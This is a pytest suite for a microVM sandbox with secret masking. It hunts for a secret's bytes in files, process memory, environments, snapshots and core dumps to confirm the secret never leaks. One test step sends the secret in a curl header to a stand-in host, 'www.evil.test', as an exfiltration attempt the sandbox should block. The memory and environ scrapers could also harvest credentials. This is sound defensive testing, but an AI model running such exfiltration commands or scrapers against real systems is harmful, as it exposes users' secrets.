"""The hunt: after a run that used a secret, where are its bytes?

They may be in msb-tls, whose memory nobody else reads, and in the process that gave them. They are looked for as they
are, in base64 at each alignment, percent-encoded and in hex; and each kind of place is searched for something that is
there as well, or the search would prove nothing.
"""
import base64
import contextlib
import json
import os
import pathlib
import re
import resource
import secrets
import shutil
import signal
import subprocess
import sys
import time
import urllib.parse

import pytest

from conftest import TOP
from lib import tlsworld
from lib.cli import descendants, is_gone, wait_until

IMAGE = "t/tls:1"
VALUE = f"hunt+{secrets.token_hex(20)}/%&end"
CHUNK = 8 << 20


def forms(text):
    """What the bytes of @text may look like."""
    data = text.encode()
    found = {data, urllib.parse.quote(text, safe="").encode(), data.hex().encode(), data[5:45]}
    for shift in range(3):
        # Only what does not depend on the neighbours.
        coded = base64.b64encode(b"\0" * shift + data)
        found.add(coded[4 if shift else 0:len(coded) // 4 * 4 - 4])
    return found


NEEDLES = forms(VALUE)
LONGEST = max(map(len, NEEDLES))


def in_bytes(data, needles=None):
    return next((n for n in needles or NEEDLES if n in data), None)


def in_stream(pieces, needles=None):
    """In pieces that follow each other."""
    tail = b""
    for piece in pieces:
        if not piece.strip(b"\0"):
            tail = b""
            continue
        found = in_bytes(tail + piece, needles)
        if found:
            return found
        tail = piece[-LONGEST:]
    return None


def in_file(path, needles=None):
    """Holes of a sparse file are passed over."""
    def pieces(fd):
        at, size = 0, os.fstat(fd).st_size
        while at < size:
            with contextlib.suppress(OSError):
                at = os.lseek(fd, at, os.SEEK_DATA)
                while data := os.pread(fd, CHUNK, at):
                    yield data
                    at += len(data)
                    if not data.strip(b"\0"):
                        break
                continue
            return
    fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW)
    try:
        return in_stream(pieces(fd), needles)
    finally:
        os.close(fd)


def in_folder(folder, needles=None):
    """The files below that have it."""
    return [p for p in folder.rglob("*") if p.is_file() and not p.is_symlink() and in_file(p, needles)]


def in_memory(pid, needles=None):
    """All that a process has mapped and that can be read, guest memory among it."""
    def pieces(mem, begin, end):
        at = begin
        while at < end:
            try:
                data = os.pread(mem, min(CHUNK, end - at), at)
            except OSError:  # a page that cannot be had
                at += 4096
                continue
            if not data:
                return
            yield data
            at += len(data)
    mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    try:
        for line in pathlib.Path(f"/proc/{pid}/maps").read_text().splitlines():
            where, mode = line.split()[:2]
            if mode[0] != "r" or "[v" in line:
                continue
            begin, end = (int(x, 16) for x in where.split("-"))
            found = in_stream(pieces(mem, begin, end), needles)
            if found:
                return f"{line}: {found!r}"
    finally:
        os.close(mem)
    return None


def processes():
    return [int(p.name) for p in pathlib.Path("/proc").iterdir() if p.name.isdigit()]


def told(pid):
    """What everybody can see of a process, and its environment."""
    data = b""
    for name in ("cmdline", "environ", "comm", "status"):
        with contextlib.suppress(OSError):
            data += pathlib.Path(f"/proc/{pid}/{name}").read_bytes()
    return data


def machine_pids():
    """{name: pid} of what lives below this process."""
    found = {}
    for pid in descendants(os.getpid()):
        with contextlib.suppress(OSError):
            if not is_gone(pid):
                found.setdefault(pathlib.Path(f"/proc/{pid}/comm").read_text().strip(), pid)
    return found


class Hunt:
    """A machine that has used the secret in each way."""

    def __init__(self, cli, world):
        self.cli, self.world = cli, world
        cli.ok("run", "-q", "-d", "-m", "256M", "-n", "hunt", "--dns-nameserver", tlsworld.FAR, "--tls-intercept",
               "--tls-upstream-ca-cert", world.ca.pem, "--secret", "KEY:header,basic,query,body,mask@api.allowed.test", IMAGE,
               "--", "sleep", "100000", env={"KEY": VALUE})
        self.pids = machine_pids()
        self.placeholder = self.sh("printf %s $KEY").out
        self.use()

    def sh(self, script):
        return self.cli("exec", "hunt", "--", "bash", "-c", script, timeout=180)

    def use(self):
        for version in ("--http1.1", "--http2"):
            for words in ('-H "Authorization: Bearer $KEY"', '-u "me:$KEY"', '-G -d "k=$KEY"', '-d "k=$KEY"',
                          '-H "Content-Type: application/json" -d "{\\"k\\": \\"$KEY\\"}"'):
                r = self.sh(f"curl -sS -m 90 {version} {words} https://api.allowed.test/sink/hunt")
                assert "ok " in r.out, (r.out, r.err)
        # The server repeats what it got; it comes back masked.
        out = self.sh('curl -sS -m 90 -H "X: $KEY" https://api.allowed.test/echo/hunt').out
        assert self.placeholder in out
        # What is refused, and what breaks in the middle.
        self.sh('curl -sS -m 90 -H "X: $KEY" https://www.evil.test/sink/hunt')
        self.sh('curl -sS -m 90 -H "X: $KEY" http://raw.allowed.test/hunt')
        self.sh('curl -sS -m 90 -H "X: $KEY" --limit-rate 1 -m 2 https://api.allowed.test/sink/hunt')


@pytest.fixture(scope="module")
def hunt(build_dir, tmp_path_factory):
    why = tlsworld.why_not() or (None if shutil.which("mmdebstrap") else "mmdebstrap is not installed")
    if why:
        pytest.skip(why)
    image = subprocess.run([TOP / "tests/images/tls.py"], stdout=subprocess.PIPE, text=True, check=True).stdout.strip()
    folder = tmp_path_factory.mktemp("hunt")
    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)  # all that may be
    (folder / "world").mkdir()
    world = tlsworld.World(folder / "world", "hunt")
    cli = tlsworld.SpaceCli(build_dir, folder / "home", world.host)
    cli.ok("load", "-q", "-i", image, "-t", IMAGE)
    try:
        yield Hunt(cli, world)
    finally:
        cli("rm", "-q", "-f", "hunt")
        world.close()
        resource.setrlimit(resource.RLIMIT_CORE, (0, resource.getrlimit(resource.RLIMIT_CORE)[1]))


def test_the_search_finds_what_is_there(hunt, tmp_path):
    """The value got to the server in every form; and each way to search finds it where it was put on purpose."""
    assert VALUE.encode() in hunt.world.log.read_bytes().replace(b"\\/", b"/")
    with open(tmp_path / "sparse", "wb") as f:
        f.truncate(64 << 20)
        f.seek(40 << 20)
        f.write(b"x" * (CHUNK - 7) + base64.b64encode(b"me:" + VALUE.encode()))
    assert in_folder(tmp_path) == [tmp_path / "sparse"]
    child = subprocess.Popen([sys.executable, "-c", "import os, sys; v = os.environ['V'][::-1][::-1]; print('up', flush=True); "
                              "sys.stdin.read()"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, env={"V": VALUE})
    try:
        child.stdout.readline()
        assert in_memory(child.pid) and in_bytes(told(child.pid))
    finally:
        child.communicate()
    tls = hunt.pids["msb-tls"]
    assert in_memory(tls, {VALUE.encode()}), "it is not even where it must be"
    mine = {hunt.placeholder.encode()}
    assert in_folder(hunt.cli.home, mine), "the record has the placeholder"
    assert any(in_memory(pid, mine) for name, pid in hunt.pids.items() if name != "msb-tls"), "guest memory has it"


def test_it_is_in_no_file(hunt):
    assert in_folder(hunt.cli.home) == []


def test_it_is_in_nothing_that_msb_says(hunt):
    texts = [hunt.cli(*words) for words in (
        ["inspect", "hunt"], ["inspect", "hunt", "--format", "json"], ["ps", "-a"], ["metrics", "hunt"],
        ["logs", "--source", "all", "hunt"], ["net", "rules", "hunt"], ["doctor"])]
    texts.append(hunt.cli("modify", "hunt", "--secret", "KEY:nonsense@api.allowed.test", env={"KEY": VALUE}))
    texts.append(hunt.cli("modify", "hunt", "--dry-run", "--secret", "KEY@api.allowed.test", env={"KEY": VALUE}))
    texts.append(hunt.cli("run", "-n", "x", "--secret", "KEY:placeholder=ab@api.allowed.test", IMAGE, env={"KEY": VALUE}))
    texts.append(hunt.cli("run", "-n", "x", "--secret", f"KEY={VALUE}@api.allowed.test", IMAGE))
    for r in texts:
        assert not in_bytes((r.out + r.err).encode()), r.args[:3]
    assert "KEY" in texts[0].out and "api.allowed.test" in texts[0].out


def test_it_is_in_no_process_list(hunt):
    assert [pid for pid in processes() if in_bytes(told(pid))] == []


def test_it_is_in_no_memory_but_the_helpers(hunt):
    """msb-vmm, which parses what the guest sends, and QEMU, with all of the guest's memory."""
    others = {name: pid for name, pid in hunt.pids.items() if name.startswith(("msb-vmm", "qemu"))}
    assert others
    for name, pid in others.items():
        assert in_memory(pid) is None, name


def test_it_is_nowhere_in_the_guest(hunt):
    """As root in there: files, environments, and the kernel's messages."""
    core = VALUE.split("+")[1][:40]
    half = len(core) // 2
    r = hunt.sh(f'p="{core[:half]}"; p="$p""{core[half:]}"; grep -rlaF "$p" /etc /root /tmp /var /run /dev/shm /home 2>/dev/null; '
                'for e in /proc/[0-9]*/environ; do grep -laF "$p" $e; done 2>/dev/null | grep -v -e "/$$/" -e self; true')
    assert r.returncode == 0 and r.out.strip() == "", r.out


def test_a_snapshot_and_what_is_saved_do_not_have_it(hunt, tmp_path):
    """Stopped, so that all is on the disk; then it starts again for the test that kills it."""
    hunt.cli.ok("stop", "-q", "hunt")
    assert in_folder(hunt.cli.home) == []
    hunt.cli.ok("snapshot", "create", "kept", "--from", "hunt")
    hunt.cli.ok("snapshot", "save", "kept", tmp_path / "s.tar.zst")
    assert in_folder(hunt.cli.home) == [] and in_folder(tmp_path) == []
    plain = subprocess.run(["zstd", "-dcf", tmp_path / "s.tar.zst"], stdout=subprocess.PIPE, check=True).stdout
    assert len(plain) > 100 << 10 and not in_bytes(plain)
    hunt.cli.ok("snapshot", "rm", "kept")


def test_a_crash_leaves_no_core(hunt, tmp_path):
    """With cores allowed: the control leaves one, msb-tls and msb-vmm do not."""
    if pathlib.Path("/proc/sys/kernel/core_pattern").read_text().startswith("|"):
        pytest.skip("cores go to a program here")
    subprocess.run(["sh", "-c", "kill -ABRT $$"], cwd=tmp_path, check=False)
    has_control = any(p.name.startswith("core") for p in tmp_path.iterdir())
    hunt.cli.ok("start", "-q", "hunt", env={"KEY": VALUE})
    found = machine_pids()
    places = [hunt.cli.home, pathlib.Path("/"), pathlib.Path("/tmp"), pathlib.Path.cwd()]

    def cores():
        return {p for place in places for p in place.glob("core*") if p.is_file()} | set(hunt.cli.home.rglob("core*"))
    before = cores()
    for name in ("msb-tls", "msb-vmm"):
        limits = pathlib.Path(f"/proc/{found[name]}/limits").read_text()
        assert re.search(r"^Max core file size +0 +0 ", limits, re.M), (name, limits)
        # The first process of a namespace does not hear of these from outside; if one ends by them, then without a core.
        for signo in (signal.SIGABRT, signal.SIGSEGV, signal.SIGQUIT):
            with contextlib.suppress(ProcessLookupError):
                os.kill(found[name], signo)
    time.sleep(2)
    with contextlib.suppress(ProcessLookupError):
        os.kill(found["msb-vmm"], signal.SIGKILL)
    wait_until(lambda: is_gone(found["msb-tls"]) and is_gone(found["msb-vmm"]), 30, "they live on")
    assert cores() == before
    wait_until(lambda: json.loads(hunt.cli.ok("ps", "hunt", "--format", "json"))["status"] != "Running", 30, "it runs on")
    assert in_folder(hunt.cli.home) == []
    if not has_control:
        pytest.skip("this host writes no cores at all: nothing is shown")
